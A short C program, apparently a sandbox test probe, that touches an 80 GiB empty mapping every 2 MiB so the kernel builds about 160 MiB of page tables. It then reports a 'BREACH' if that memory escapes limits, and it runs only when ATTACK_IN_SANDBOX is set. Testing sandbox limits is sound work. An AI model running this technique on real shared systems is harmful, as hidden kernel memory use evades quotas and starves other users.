// use memory in page tables, by touching a huge empty mapping at many addresses
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#define GUARD if (!getenv("ATTACK_IN_SANDBOX")) return 1

int main(void) {
    GUARD;
    const size_t room = 80ull << 30, step = 2u << 20; /* 40,000 tables of 4 KiB: 160 MiB */
    char *map = mmap(NULL, room, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
    if (map == MAP_FAILED) return puts("DONE"), 0;
    madvise(map, room, MADV_NOHUGEPAGE);
    volatile char sum = 0;
    for (size_t at = 0; at < room; at += step) sum += map[at];
    usleep(1000000); // a busy machine may not look at it for long
    puts("BREACH holds 160 MiB");
}
